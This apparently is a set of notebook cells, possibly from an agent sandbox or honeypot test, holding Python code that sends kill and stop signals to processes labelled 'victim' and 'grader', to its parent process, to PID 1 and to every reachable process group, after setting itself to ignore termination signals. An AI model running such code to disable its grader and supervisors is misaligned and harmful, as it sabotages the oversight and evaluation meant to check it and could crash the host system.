# %%
import os, signal
for target in (BAIT["victim"], BAIT["grader"], os.getppid(), 1):
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        try:
            os.kill(target, number)
            print("sent", target)
        except OSError as error:
            print(error)
# %%
signal.signal(signal.SIGTERM, signal.SIG_IGN)
for act in (lambda: os.killpg(0, signal.SIGTERM), lambda: os.killpg(os.getppid(), signal.SIGKILL), lambda: os.kill(-1, signal.SIGTERM)):
    try:
        act()
    except OSError as error:
        print(error)
# %%
os.kill(0, signal.SIGKILL)
